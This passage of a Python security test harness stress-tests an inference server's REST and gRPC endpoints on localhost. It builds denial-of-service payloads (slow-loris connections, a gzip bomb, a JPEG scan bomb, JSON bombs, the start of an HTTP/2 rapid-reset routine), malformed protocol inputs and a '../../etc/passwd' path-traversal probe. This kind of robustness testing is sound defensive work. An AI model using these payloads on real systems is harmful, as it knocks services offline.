        body, ctype = multipart(fields)
        return http_req("POST", path, {"content-type": ctype}, body[: len(body) - cut])

    def upload(data: bytes, ctype: str = "image/png", query: str = "") -> bytes:
        return http_req("POST", image + query, {"content-type": ctype}, data)

    def deep(n: int) -> bytes:
        return b"[" * n + b"]" * n

    return [
        # -- the JSON parser
        ("deep JSON array, 1,000 levels", "json", lambda: [jreq(deep(1000))], False),
        ("deep JSON objects, 1,000 levels", "json", lambda: [jreq(b'{"a":' * 1000 + b"1" + b"}" * 1000)], False),
        ("deep JSON inside parameters, 1,000 levels", "json",
         lambda: [jreq(jdoc(b'"parameters": {"x": ' + deep(1000) + b"}"))], False),
        ("deep JSON, 100,000 levels", "json", lambda: [jreq(deep(100_000))], False),
        ("unterminated JSON, 100,000 '['", "json", lambda: [jreq(b"[" * 100_000)], False),
        ("JSON integer of 5,000 digits", "json", lambda: [jreq(jdoc(b'"id": ' + b"7" * 5000))], False),
        ("JSON number 1e999 as top_k", "json", lambda: [jreq(jdoc(b'"parameters": {"top_k": 1e999}'))], False),
        ("JSON NaN / Infinity hints", "json",
         lambda: [jreq(jdoc(b'"parameters": {"target_bpp": NaN, "fps": Infinity, "kbit_per_s": -Infinity}'))], False),
        ("JSON lone surrogates in id", "json", lambda: [jreq(jdoc(b'"id": "\\ud800\\udfff\\ud800"'))], False),
        ("invalid UTF-8 body", "json", lambda: [jreq(b'{"inputs": "\xff\xfe\xfd"}')], False),
        ("JSON not an object", "json", lambda: [jreq(b'"just a string"')], False),
        ("JSON with 100,000 inputs", "json",
         lambda: [jreq(json.dumps({"inputs": [{"name": "x", "datatype": "BYTES", "shape": [1], "data": ["AA=="]}]
                                   * 100_000}).encode())], False),
        ("JSON input shape [10^18]", "json",
         lambda: [jreq(json.dumps({"inputs": [{**valid_input, "shape": [10 ** 18]}]}).encode())], False),
        ("JSON wrong types everywhere", "json",
         lambda: [jreq(json.dumps({"inputs": [{"name": 5, "datatype": [], "shape": "x", "data": {"a": 1}}],
                                   "parameters": [], "outputs": 7, "id": {"x": 1}}).encode())], False),
        ("JSON id of 1 MB", "json", lambda: [jreq(jdoc(id="i" * 1_000_000))], False),
        ("JSON invalid base64", "json",
         lambda: [jreq(json.dumps({"inputs": [{**valid_input, "data": ["!!!notbase64"]}]}).encode())], False),
        ("JSON unknown outputs, bad parameter types", "json",
         lambda: [jreq(jdoc(outputs=[{"name": "nope", "parameters": {"binary_data": "yes", "classification": -3}}],
                            parameters={"binary_data_output": "maybe", "top_k": "ten", "expected_rung": -1}))],
         False),
        ("classification 10^9 on an output", "json",
         lambda: [jreq(jdoc(outputs=[{"name": "topk_score", "parameters": {"classification": 10 ** 9}}]))], False),
        # -- the binary tensor extension
        ("binary: header length -1", "binary", lambda: [kserve(header_len=-1)], False),
        ("binary: header length 10^30", "binary", lambda: [kserve(header_len=10 ** 30)], False),
        ("binary: header length in Arabic-Indic digits", "binary", lambda: [kserve(header_len="\u0661\u0662")], False),
        ("binary: element length prefix 0xFFFFFFFF", "binary", lambda: [kserve(prefix=b"\xff\xff\xff\xff")], False),
        ("binary: no element length prefix (raw bytes)", "binary", lambda: [kserve(prefix=b"")], False),
        ("binary: binary_data_size -5", "binary", lambda: [kserve(size=-5)], False),
        ("binary: binary_data_size 2^63", "binary", lambda: [kserve(size=2 ** 63)], False),
        # -- content types, methods, routes
        ("text/plain body on infer", "content-type", lambda: [jreq(jdoc(), headers={"content-type": "text/plain"})],
         False),
        ("form-urlencoded on infer", "content-type",
         lambda: [jreq(b"a=1&b=2", headers={"content-type": "application/x-www-form-urlencoded"})], False),
        ("multipart on infer", "content-type", lambda: [form(infer, [("image", "a.png", png((4, 4)))])], False),
        ("raw bitstream, octet-stream, no header length", "content-type",
         lambda: [jreq(msg, headers={"content-type": "application/octet-stream"})], False),
        ("JSON to infer-image", "content-type", lambda: [jreq(jdoc(), path=image)], False),
        ("multipart without boundary", "content-type",
         lambda: [jreq(b"--x\r\n\r\n", path=image, headers={"content-type": "multipart/form-data"})], False),
        ("multipart with 1,000 fields", "content-type",
         lambda: [form(image, [(f"f{i}", "", b"x") for i in range(1000)])], False),
        ("multipart, two files", "content-type",
         lambda: [form(image, [("image", "a.png", png((8, 8))), ("image", "b.png", png((8, 8)))])], False),
        ("multipart, truncated", "content-type", lambda: [form(image, [("image", "a.png", png((8, 8)))], cut=30)],
         False),
        ("unknown route", "route", lambda: [http_req("GET", "/nope/../../etc/passwd", {}, b"")], False),
        ("unknown model", "route", lambda: [jreq(jdoc(), path="/v2/models/nope/infer")], False),
        ("model name with NUL and %ff", "route", lambda: [jreq(jdoc(), path="/v2/models/a%00%ff%c0/infer")], False),
        ("versions route, unknown version", "route",
         lambda: [jreq(jdoc(), path=f"/v2/models/{model}/versions/999/infer")], False),
        ("wrong method DELETE on infer", "route", lambda: [http_req("DELETE", infer, {}, b"")], False),
        ("method BREW", "route", lambda: [http_req("BREW", infer, {}, b"")], False),
        ("OPTIONS *", "route", lambda: [http_req("OPTIONS", "*", {}, b"")], False),
        ("URL of 100 KB", "route", lambda: [http_req("GET", "/v2/models/" + "a" * 100_000, {}, b"")], False),
        ("query: rung 10^30, top_k 0, target_bpp nan", "route",
         lambda: [upload(png((32, 32)), query="?rung=" + "9" * 30 + "&top_k=0&target_bpp=nan")], False),
        ("query: id of 20 KB", "route", lambda: [upload(png((32, 32)), query="?id=" + "i" * 20_000)], False),
        # -- headers
        ("one header of 1 MB", "headers", lambda: [http_req("GET", "/v2", {"x-big": "a" * 1_000_000}, b"")], False),
        ("10,000 headers", "headers", lambda: [http_req("GET", "/v2", {f"x-h{i}": "v" for i in range(10_000)}, b"")],
         False),
        ("header with control bytes", "headers", lambda: [b"GET /v2 HTTP/1.1\r\nhost: x\r\nx-a: \x00\x01\x7f\r\n\r\n"],
         False),
        ("TLS ClientHello on the plaintext port", "headers",
         lambda: [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200)], False),
        ("HTTP/2 preface on the REST port", "headers",
         lambda: [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(64)], False),
        # -- bodies
        ("Content-Length 10^12 declared", "body",
         lambda: [http_req("POST", infer, {**jh, "content-length": str(10 ** 12)}, b"{")], False),
        ("Content-Length not a number", "body",
         lambda: [http_req("POST", infer, {**jh, "content-length": "12abc"}, b"{}")], False),
        ("two different Content-Lengths", "body",
         lambda: [b"POST " + infer.encode() + b" HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\ncontent-length: 9\r\n"
                  b"content-type: application/json\r\n\r\n{}"], False),
        ("chunked body of 30 MB", "body",
         lambda: [http_req("POST", infer, {**jh, "transfer-encoding": "chunked"}, None)]
         + [b"100000\r\n" + b" " * 0x100000 + b"\r\n"] * 30 + [b"0\r\n\r\n"], False),
        ("body of 30 MB with its Content-Length", "body",
         lambda: [http_req("POST", image, {"content-type": "image/png", "content-length": str(30 << 20)}, b"")]
         + [bytes(1 << 20)] * 30, False),
        ("Expect: 100-continue with 200 MB announced", "body",
         lambda: [http_req("POST", infer, {**jh, "expect": "100-continue", "content-length": str(200 << 20)}, b"")],
         False),
        ("Content-Length larger than the body (the client waits)", "slow",
         lambda: [http_req("POST", infer, {**jh, "content-length": "5000"}, b'{"inputs": [')], False),
        # -- images that are refused before any pixel work
        ("infer-image: not an image", "image", lambda: [upload(b"\x89PNG\r\n\x1a\n" + bytes(100))], False),
        ("infer-image: GIF (unsupported format)", "image", lambda: [upload(png((16, 16), "P", "GIF"), "image/gif")],
         False),
        ("infer-image: truncated JPEG", "image", lambda: [upload(png((640, 480), fmt="JPEG")[:2000], "image/jpeg")],
         False),
        ("infer-image: 60000x60000 PNG header (over the pixel limit)", "image",
         lambda: [upload(png_header_only(60000, 60000))], False),
        # -- uploads within the limits: (c) measures the server's peak RSS for each
        ("infer-image: 1x1 PNG", "upload", lambda: [upload(png((1, 1)))], True),
        ("infer-image: 1x20000 PNG", "upload", lambda: [upload(png((1, 20000)))], True),
        ("infer-image: 20000x1 PNG", "upload", lambda: [upload(png((20000, 1)))], True),
        ("infer-image: 3x60000 PNG", "upload", lambda: [upload(png((3, 60000)))], True),
        ("infer-image: 64x16000 PNG (aspect 250)", "upload", lambda: [upload(png((64, 16000)))], True),
        ("infer-image: 316x6320 PNG (aspect 20)", "upload", lambda: [upload(png((316, 6320)))], True),
        ("infer-image: 1000x40000 PNG (40 Mpx, aspect 40)", "upload", lambda: [upload(png((1000, 40000), "L"))], True),
        ("infer-image: 6000x6000 RGB PNG (36 Mpx)", "upload", lambda: [upload(png((6000, 6000)))], True),
        ("infer-image: 6320x6320 RGBA PNG (under the pixel limit)", "upload",
         lambda: [upload(png((6320, 6320), "RGBA"))], True),
        ("infer-image: 6320x6320 JPEG", "upload", lambda: [upload(png((6320, 6320), fmt="JPEG", quality=5),
                                                                  "image/jpeg")], True),
        ("infer-image: 16-bit 6320x6320 PNG", "upload", lambda: [upload(png((6320, 6320), "I;16"))], True),
    ]


def grpc_cases(model: str, msg: bytes) -> List[Tuple[str, Callable[[Any], Tuple[str, str]], bool]]:
    """(name, run(channel) -> (status code name, details), measure RSS)."""
    import grpc

    from shared._proto import splitinfer_pb2 as pb

    def raw_unary(path: str, payload: bytes, compression=None, metadata=None):
        def run(ch):
            call = ch.unary_unary(path, request_serializer=None, response_deserializer=None)
            try:
                call(payload, timeout=30, compression=compression, metadata=metadata)
                return "OK", ""
            except grpc.RpcError as e:
                return grpc_code(e), (e.details() or "")[:200]
        return run

    def raw_stream(path: str, payloads: List[bytes]):
        def run(ch):
            call = ch.stream_stream(path, request_serializer=None, response_deserializer=None)
            try:
                for _ in call(iter(payloads), timeout=30):
                    pass
                return "OK", ""
            except grpc.RpcError as e:
                return grpc_code(e), (e.details() or "")[:200]
        return run

    infer_path = "/splitinfer.v1.SplitInference/Infer"
    oip_path = "/inference.GRPCInferenceService/ModelInfer"

    def infer(**fields):
        return raw_unary(infer_path, pb.InferRequest(**fields).SerializeToString())

    garbage = b"\xff\xff\xff\xff\x0f" + bytes(range(256)) * 4
    bomb = b"\x12" + fz.uvarint(64 << 20) + bytes(64 << 20)  # a 64 MB bitstream field: ~64 KB once gzipped
    cases = [
        ("garbage protobuf to Infer", raw_unary(infer_path, garbage), False),
        ("garbage protobuf to InferStream", raw_stream("/splitinfer.v1.SplitInference/InferStream", [garbage]), False),
        ("garbage protobuf to ModelMetadata", raw_unary("/splitinfer.v1.SplitInference/ModelMetadata", garbage),
         False),
        ("garbage protobuf to Health/Check", raw_unary("/grpc.health.v1.Health/Check", garbage), False),
        ("garbage protobuf to OIP ModelInfer", raw_unary(oip_path, garbage), False),
        ("garbage protobuf to OIP ModelStreamInfer",
         raw_stream("/inference.GRPCInferenceService/ModelStreamInfer", [garbage]), False),
        ("invalid UTF-8 in the model field", raw_unary(infer_path, b"\x0a\x03\xff\xfe\xfd\x12\x01\x00"), False),
        ("100,000 nested groups", raw_unary(infer_path, b"\x7b" * 100_000), False),
        ("overlong varint", raw_unary(infer_path, b"\x38" + b"\xff" * 11 + b"\x01"), False),
        ("unknown method", raw_unary("/splitinfer.v1.SplitInference/Nope", b""), False),
        ("unknown service", raw_unary("/evil.Service/Call", b""), False),
        ("message of 4 MB (over the limit)", infer(model=model, bitstream=bytes(4 << 20)), False),
        ("metadata value of 1 MB", raw_unary(infer_path, pb.InferRequest(model=model, bitstream=msg)
                                             .SerializeToString(), metadata=[("x-big", "a" * 1_000_000)]), False),
        ("empty request", infer(), False),
        ("top_k 2^32-1", infer(model=model, bitstream=msg, top_k=2 ** 32 - 1), False),
        ("expected_rung 2^32-1", infer(model=model, bitstream=msg, expected_rung=2 ** 32 - 1), False),
        ("target_bpp NaN", infer(model=model, bitstream=msg, target_bpp=float("nan")), False),
        ("target_bpp -inf", infer(model=model, bitstream=msg, target_bpp=float("-inf")), False),
        ("link 1e308 kbit/s at 1e-308 fps", infer(model=model, bitstream=msg,
                                                  link=pb.LinkRate(kbit_per_s=1e308, fps=1e-308)), False),
        ("link fps NaN", infer(model=model, bitstream=msg, link=pb.LinkRate(kbit_per_s=100, fps=float("nan"))), False),
        ("request_id of 900 KB", infer(model=model, bitstream=msg, request_id="r" * 900_000), False),
        ("model name of 900 KB", infer(model="m" * 900_000, bitstream=msg), False),
        ("model name with NUL and RTL override", infer(model="\x00\u202e" + model, bitstream=msg), False),
        ("gzip bomb: 64 MB bitstream field in ~64 KB", raw_unary(infer_path, bomb, compression=grpc.Compression.Gzip),
         True),
    ]
    try:  # OIP gRPC requests with wrong contents (UNIMPLEMENTED where the service does not exist)
        from tritonclient.grpc import service_pb2 as tpb

        t = tpb.ModelInferRequest.InferInputTensor
        framed = struct.pack("<I", len(msg)) + msg

        def oip(**kw):
            return raw_unary(oip_path, tpb.ModelInferRequest(model_name=model, **kw).SerializeToString())

        cases += [
            ("OIP ModelInfer: no inputs", oip(), False),
            ("OIP ModelInfer: FP32 input, no data", oip(inputs=[t(name="bitstream", datatype="FP32", shape=[1])]),
             False),
            ("OIP ModelInfer: BYTES with a bad length prefix",
             oip(inputs=[t(name="bitstream", datatype="BYTES", shape=[1])], raw_input_contents=[b"\xff\xff\xff\x7f"]),
             False),
            ("OIP ModelInfer: shape [2^62]",
             oip(inputs=[t(name="bitstream", datatype="BYTES", shape=[2 ** 62])], raw_input_contents=[framed]), False),
            ("OIP ModelInfer: two raw contents for one input",
             oip(inputs=[t(name="bitstream", datatype="BYTES", shape=[1])], raw_input_contents=[framed] * 2), False),
            ("OIP ModelInfer: unknown model version",
             oip(model_version="999", inputs=[t(name="bitstream", datatype="BYTES", shape=[1])],
                 raw_input_contents=[framed]), False),
        ]
    except ImportError as e:  # no OIP stubs in this checkout (an older server): those cases are skipped, said once
        print(f"  note: OIP gRPC cases skipped ({e})", file=sys.stderr)
    return cases


def _slowloris(port: int, kind: str, path: str, budget: float, results: Dict[str, Any]) -> None:
    """One connection kept busy for up to ``budget`` s: headers a line a second, a body a byte a second, or
    nothing at all; records when (and how) the server ends it."""
    t0 = time.perf_counter()
    status, cut, answer = None, False, b""
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=budget + 5)
    except OSError as e:
        results[kind] = {"cut": True, "after_s": 0.0, "status": None, "error": short(e)}
        return
    try:
        if kind == "headers":
            s.sendall(f"POST {path} HTTP/1.1\r\nhost: x\r\n".encode())
        elif kind == "body":
            s.sendall(f"POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
                      f"content-length: 100000\r\n\r\n".encode())
        s.settimeout(1.0)
        while time.perf_counter() - t0 < budget:
            try:
                data = s.recv(4096)
                if not data:
                    cut = True
                    break
                answer += data
                if b"\r\n\r\n" in answer:
                    cut = True
                    break
            except socket.timeout:
                data = b""  # nothing yet: keep trickling, the server must cut us within the budget
            try:
                if kind == "headers":
                    s.sendall(b"x-slow: 1\r\n")
                elif kind == "body":
                    s.sendall(b" ")
            except OSError:
                cut = True
                break
    except OSError:
        cut = True
    finally:
        s.close()
    if answer.startswith(b"HTTP/"):
        with contextlib.suppress(ValueError, IndexError):
            status = int(answer.split(b" ", 2)[1])
    results[kind] = {"cut": cut, "after_s": round(time.perf_counter() - t0, 1), "status": status}


def section_bc(server: Server, model: str, msg: bytes, args) -> Dict[str, Any]:
    import grpc

    rows: List[Dict[str, Any]] = []

    def record(row: Dict[str, Any]) -> None:
        if not server.alive() and not row.get("killed"):
            row["server_died"] = True
            row["log_tail"] = server.log_tail(1500)
            row["verdict"] = "SERVER DIED"
        if server.ensure():
            row["restarted"] = True
        rows.append(row)
        if row["verdict"] != "ok" or args.verbose:
            print(f"  (b) {row['front']:<4} {row['case'][:58]:<58} {str(row.get('answer'))[:26]:<26} {row['verdict']}"
                  + (f"  RSS +{row['rss_mb']:.0f} MB" if row.get("rss_mb") is not None else ""), flush=True)

    clean: Dict[str, Any] = {"kb": None}

    def clean_server() -> None:
        """Before a measured upload: a server whose memory is as after its start and one small upload (what an
        earlier upload left in the allocators' caches would hide the next one's cost): restarted when it is not."""
        kb = fz.rss_kb(server.pid) if server.alive() else None
        if kb is not None and clean["kb"] is not None and (kb - clean["kb"]) / 1024 <= 30:
            return
        if server.alive():
            server.stop()
        server.start()
        raw_http(server.http_port, [http_req("POST", f"/v2/models/{model}/infer-image", {"content-type": "image/png"},
                                             png((32, 32)))], timeout=60)
        server.wait_idle(timeout=10)
        clean["kb"] = fz.rss_kb(server.pid)

    def run_rest(name: str, kind: str, make: Callable[[], List[Any]], measure: bool) -> None:
        row: Dict[str, Any] = {"front": "rest", "case": name, "kind": kind}
        try:
            parts = make()
        except Exception as e:  # noqa: BLE001 - a case the client cannot even build
            row.update(answer="(not sent)", verdict="client error: " + short(e, 100))
            rows.append(row)
            return
        if measure:
            clean_server()
        probe = PeakRss(server, args.rss_cap_mb).start() if measure else None
        try:
            r = raw_http(server.http_port, parts, timeout=args.slowloris_s if kind == "slow" else args.case_timeout)
            if probe:
                probe.finish()
                row["rss_mb"], row["killed"] = probe.increase_mb, probe.killed
            status = r["status"]
            row.update(status=status, ms=round(r["ms"], 1), head=r["head"][:120], send_error=r["send_error"])
            if probe and probe.killed:
                row.update(answer="(killed at the RSS cap)", verdict=f"RSS over +{args.rss_cap_mb:.0f} MB: killed")
            elif status is None and kind == "slow" and not r["closed"]:
                row.update(answer=f"held {r['ms'] / 1e3:.1f} s", verdict="held (no read timeout)")
            elif status is None:
                row.update(answer="no answer" + (" (closed)" if r["closed"] else " (timeout)"), verdict="no answer")
            else:
                row.update(answer=str(status), verdict="5xx" if status >= 500 else "ok")
        except Exception as e:  # noqa: BLE001
            row.update(answer="(client error)", verdict="client error: " + short(e, 100))
        finally:
            if probe:
                probe.stop()
        record(row)

    channel_opts = [("grpc.max_send_message_length", 128 << 20), ("grpc.max_receive_message_length", 128 << 20),
                    ("grpc.max_metadata_size", 4 << 20)]

    def run_grpc(name: str, run: Callable[[Any], Tuple[str, str]], measure: bool) -> None:
        row: Dict[str, Any] = {"front": "grpc", "case": name}
        if measure:
            clean_server()
        ch = grpc.insecure_channel(f"127.0.0.1:{server.grpc_port}", channel_opts)
        probe = PeakRss(server, args.rss_cap_mb).start() if measure else None
        t0 = time.perf_counter()
        try:
            code, detail = run(ch)
            if probe:
                probe.finish()
                row["rss_mb"], row["killed"] = probe.increase_mb, probe.killed
            row.update(status=code, detail=detail, ms=round(1e3 * (time.perf_counter() - t0), 1))
            if probe and probe.killed:
                row.update(answer="(killed at the RSS cap)", verdict=f"RSS over +{args.rss_cap_mb:.0f} MB: killed")
            else:
                row.update(answer=code, verdict="5xx" if code in GRPC_5XX else "ok")
        except Exception as e:  # noqa: BLE001
            row.update(answer="(client error)", verdict="client error: " + short(e, 100))
        finally:
            if probe:
                probe.stop()
            ch.close()
        record(row)

    # 1. slow-loris connections, open while 2. the cases that cannot blow the server up run; 3. the uploads whose
    # RSS is measured last (one of them may get the server killed at the cap, and restarted)
    slow: Dict[str, Any] = {}
    slow_threads = [threading.Thread(target=_slowloris, args=(server.http_port, k, f"/v2/models/{model}/infer",
                                                               args.slowloris_s, slow), daemon=True)
                    for k in ("headers", "body", "idle")]
    for t in slow_threads:
        t.start()
    rcases, gcases = rest_cases(model, msg), grpc_cases(model, msg)
    for name, kind, make, measure in rcases:
        if not measure:
            run_rest(name, kind, make, measure)
    for name, run, measure in gcases:
        if not measure:
            run_grpc(name, run, measure)
    for t in slow_threads:
        t.join(args.slowloris_s + 10)
    for kind in ("headers", "body", "idle"):
        r = slow.get(kind, {})
        held, st = not r.get("cut"), r.get("status")
        answer = (f"{st} after {r.get('after_s')} s" if st else
                  (f"held {r.get('after_s')} s" if held else f"closed after {r.get('after_s')} s"))
        case = f"slow-loris: {kind} (a line/byte a second, up to {args.slowloris_s:.0f} s)"
        rows.append({"front": "rest", "case": case,
                     "kind": "slowloris", "status": st, "answer": answer, "detail": r,
                     "verdict": "5xx" if st and st >= 500 else ("held (no read timeout)" if held else "ok")})
        if rows[-1]["verdict"] != "ok" or args.verbose:
            print(f"  (b) rest {rows[-1]['case'][:58]:<58} {answer[:26]:<26} {rows[-1]['verdict']}", flush=True)
    for name, kind, make, measure in rcases:
        if measure:
            run_rest(name, kind, make, measure)
    for name, run, measure in gcases:
        if measure:
            run_grpc(name, run, measure)

    n5 = sum(1 for r in rows if r["verdict"] == "5xx")
    dead = sum(1 for r in rows if r.get("server_died"))
    noans = sum(1 for r in rows if r["verdict"] == "no answer")
    killed = sum(1 for r in rows if r.get("killed"))
    held = sum(1 for r in rows if r["verdict"].startswith("held"))
    client_err = sum(1 for r in rows if r["verdict"].startswith("client error"))
    b = {"cases": len(rows), "5xx": n5, "server_deaths": dead, "no_answer": noans, "held_slow": held,
         "killed_at_cap": killed, "client_errors": client_err, "met": n5 == 0 and dead == 0,
         "figure": f"{n5} x 5xx over {len(rows)} cases" + (f", {dead} server deaths" if dead else "")
         + (f", {noans} dropped without an answer" if noans else "")
         + (f", {held} slow connections held past {args.slowloris_s:.0f} s" if held else "")
         + (f", {killed} uploads killed at the RSS cap" if killed else "")
         + (f", {client_err} cases the client could not run" if client_err else "")}
    rss_rows = [r for r in rows if r.get("rss_mb") is not None]
    worst = max(rss_rows, key=lambda r: (bool(r.get("killed")), r["rss_mb"]), default=None)
    c: Dict[str, Any] = {"uploads": [{k: r.get(k) for k in ("front", "case", "answer", "rss_mb", "killed")}
                                     for r in rss_rows],
                         "cap_mb": args.rss_cap_mb, "killed_at_cap": killed}
    if worst:
        c.update(worst_case=worst["case"], worst_mb=worst["rss_mb"],
                 met=(not worst.get("killed")) and worst["rss_mb"] <= 300)
        c["figure"] = (f">= +{args.rss_cap_mb:.0f} MB ({worst['case']}: killed at the cap; {killed} upload(s) hit it)"
                       if worst.get("killed") else f"+{worst['rss_mb']:.0f} MB ({worst['case']}, answered "
                                                   f"{worst['answer']})")
    else:
        c.update(met=False, figure="not measured")
    return {"rows": rows, "b": b, "c": c}


# ====================================================================================== (f) issue 24
def scan_bomb_jpeg(size: Tuple[int, int] = (6000, 6000), repeats: int = 20_000) -> bytes:
    """A grey progressive JPEG whose smallest AC scan is repeated ``repeats`` more times (issue 24, E1): each copy
    is a few dozen bytes of end-of-band runs, and another decoding pass over every block."""
    import re

    from PIL import Image

    buf = io.BytesIO()
    Image.new("L", size, 128).save(buf, "JPEG", progressive=True, quality=75)
    data = buf.getvalue()
    next_marker = re.compile(rb"\xff[^\x00\xd0-\xd7\xff]")
    scans, pos = [], 2
    while True:
        i = data.find(b"\xff\xda", pos)
        if i < 0:
            break
        ln = int.from_bytes(data[i + 2:i + 4], "big")
        end = next_marker.search(data, i + 2 + ln).start()
        ss = data[i + 5 + 2 * data[i + 4]]  # spectral start: > 0 for an AC scan
        if ss > 0:
            scans.append((end - i, i, end))
        pos = end
    _, a, b = min(scans)
    return data[:b] + data[a:b] * repeats + data[b:]


def _post_image(port: int, model: str, data: bytes, key: str, timeout: float) -> Tuple[Optional[int], str, float]:
    import httpx

    t0 = time.perf_counter()
    try:
        r = httpx.post(f"http://127.0.0.1:{port}/v2/models/{model}/infer-image", content=data, timeout=timeout,
                       headers={"content-type": "image/jpeg", "authorization": f"Bearer {key}"})
        return r.status_code, r.text[:160], time.perf_counter() - t0
    except Exception as e:  # noqa: BLE001
        return None, short(e, 160), time.perf_counter() - t0


def _peak_during(server: "Server", fn: Callable[[], Any], cap_mb: float) -> Tuple[Any, float, bool]:
    rss = PeakRss(server, cap_mb).start()
    try:
        out = fn()
    finally:
        rss.finish(idle_timeout=10.0)
    return out, rss.increase_mb, rss.killed


def section_f(server: "Server", model: str, key: str, args) -> Dict[str, Any]:
    out: Dict[str, Any] = {}
    settings = {n: server_setting(server.root, server.env, n) for n in
                ("max_jpeg_scans", "max_jpeg_scan_pixels", "request_timeout_s", "max_infer_bytes")}
    out["settings"] = settings

    cases = set(args.f_cases.replace(" ", "").split(","))
    if "f1" in cases:
        out["f1"] = _f1(server, model, key, settings, args)
    if "f2" in cases:
        out["f2"] = _f2(server, model, args)
    if "f3" in cases:
        out["f3"] = _f3(server, model, key, settings, args)
    return out


def _f1(server: "Server", model: str, key: str, settings: Dict[str, Any], args) -> Dict[str, Any]:
    """CPU-seconds of the scan bomb, then of the most scans the limits accept on the same image."""
    port = server.http_port
    server.wait_idle()
    rows = []
    max_scans = settings["max_jpeg_scans"] or 64
    accepted = min(max_scans, (settings["max_jpeg_scan_pixels"] or 10**12) // (6000 * 6000))
    for name, repeats in [("the issue's bomb: 20,000 scans", 20_000), (f"{accepted} scans (the most accepted)",
                                                                      max(0, accepted - 6))]:
        data = scan_bomb_jpeg(repeats=repeats)
        c0 = server.cpu_s()
        status, text, secs = _post_image(port, model, data, key, timeout=args.case_timeout)
        server.wait_idle(timeout=args.case_timeout)  # work that goes on after the answer counts too
        cpu = (server.cpu_s() or 0) - (c0 or 0)
        rows.append({"case": name, "bytes": len(data), "status": status, "answer_s": round(secs, 3),
                     "cpu_s": round(cpu, 2), "answer": text})
        print(f"  f1 {name:<36} {len(data) / 1e6:5.2f} MB -> {status} in {secs:6.2f} s, server {cpu:5.2f} CPU-s  "
              f"{text[:90]}", flush=True)
    worst = max(r["cpu_s"] for r in rows)
    return {"rows": rows, "met": worst <= 2.0 and all(r["status"] is not None for r in rows),
            "figure": "; ".join(f"{r['case']}: {r['status']} in {r['answer_s']:.2f} s, {r['cpu_s']:.2f} CPU-s"
                                for r in rows)}


def _f2(server: "Server", model: str, args) -> Dict[str, Any]:
    """100 unauthenticated held 10 MiB bodies."""
    port = server.http_port
    n, size = 100, 10 << 20
    head = http_req("POST", f"/v2/models/{model}/infer-image", {"content-type": "image/jpeg",
                                                                 "content-length": str(size)}, None)
    statuses: List[Any] = [None] * n
    body = bytes(size - 1)

    def held(i: int) -> None:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=10) as sk:
                sk.sendall(head)
                with contextlib.suppress(OSError):
                    sk.sendall(body)  # refused from the headers: the server closes, the send fails
                    time.sleep(3.0)  # held: the last byte never comes
                sk.settimeout(2.0)
                with contextlib.suppress(OSError):
                    got = sk.recv(256)
                    statuses[i] = int(got.split(b" ", 2)[1]) if got.startswith(b"HTTP/") else "closed"
        except Exception as e:  # noqa: BLE001
            statuses[i] = short(e, 60)

    def run_held() -> None:
        ts = [threading.Thread(target=held, args=(i,)) for i in range(n)]
        for t in ts:
            t.start()
        for t in ts:
            t.join(60)

    server.wait_idle()
    _, mb, killed = _peak_during(server, run_held, args.rss_cap_mb)
    counts: Dict[str, int] = {}
    for st in statuses:
        counts[str(st)] = counts.get(str(st), 0) + 1
    alive = server.health_rest(5.0)[0]
    out = {"peak_mb": round(mb, 1), "killed": killed, "answers": counts, "health_after": alive,
           "met": not killed and mb <= 50 and alive,
           "figure": f"{'>= ' if killed else '+'}{mb:.0f} MB peak; answers {counts}; health after: {alive}"}
    print(f"  f2 {out['figure']}", flush=True)
    server.ensure()
    return out


def _f3(server: "Server", model: str, key: str, settings: Dict[str, Any], args) -> Dict[str, Any]:
    """8 JSON bombs at once on /infer: the issue's 10 MB one, and the largest the route's limit lets through."""
    port = server.http_port

    def bomb(n_objects: int) -> bytes:
        return (b'{"inputs":[{"name":"bitstream","datatype":"BYTES","shape":[1],"data":['
                + b",".join([b"{}"] * n_objects) + b"]}]}")

    fit = max(1, ((settings["max_infer_bytes"] or (1 << 20)) - 200) // 3)
    f3_rows = []
    issue = ((10 << 20) - 200) // 3  # the issue's: as many as the upload limit (10 MiB) let through
    for name, n_objects in [(f"{issue:,} {{}} (10 MiB)", issue), (f"{fit:,} {{}} (the route's limit)", fit)]:
        data = http_req("POST", f"/v2/models/{model}/infer", {"content-type": "application/json",
                                                              "authorization": f"Bearer {key}"}, bomb(n_objects))
        answers: List[Any] = [None] * 8

        def one(i: int, data: bytes = data) -> None:
            answers[i] = raw_http(port, [data], timeout=args.case_timeout)["status"]

        def run8() -> None:
            ts = [threading.Thread(target=one, args=(i,)) for i in range(8)]
            for t in ts:
                t.start()
            for t in ts:
                t.join(args.case_timeout + 5)

        server.ensure()
        server.wait_idle()
        _, mb, killed = _peak_during(server, run8, args.rss_cap_mb)
        alive = server.health_rest(5.0)[0]
        f3_rows.append({"case": name, "body_bytes": len(data), "peak_mb": round(mb, 1), "killed": killed,
                        "answers": sorted(set(map(str, answers))), "health_after": alive})
        print(f"  f3 8 x {name}: {'>= ' if killed else '+'}{mb:.0f} MB peak, answers {sorted(set(map(str, answers)))}, "
              f"health after: {alive}", flush=True)
    worst = max(r["peak_mb"] for r in f3_rows)
    return {"rows": f3_rows, "met": worst <= 200 and all(r["health_after"] and not r["killed"] for r in f3_rows),
            "figure": "; ".join(f"8 x {r['case']}: {'>= ' if r['killed'] else '+'}{r['peak_mb']:.0f} MB, "
                                f"{'/'.join(r['answers'])}" for r in f3_rows)}


# ====================================================================================== (g) gRPC, admission
def _h2_frame(ftype: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def _hpack_literal(headers: Sequence[Tuple[str, str]]) -> bytes:
    """A header block of literal fields never indexed (RFC 7541 6.2.3, no Huffman): the same bytes on every
    stream, whatever the server's dynamic table holds."""
    def string(v: bytes) -> bytes:
        assert len(v) < 127
        return bytes([len(v)]) + v

    return b"".join(b"\x10" + string(k.encode()) + string(v.encode()) for k, v in headers)


def rapid_reset(port: int, seconds: float, path: str = "/splitinfer.v1.SplitInference/Infer",
                batch: int = 200) -> Dict[str, Any]:
    """One HTTP/2 connection that opens streams (HEADERS) and resets each at once (RST_STREAM CANCEL), ``batch``
    at a time, for ``seconds`` (CVE-2023-44487). Returns the streams sent and what came back: RST_STREAM codes,
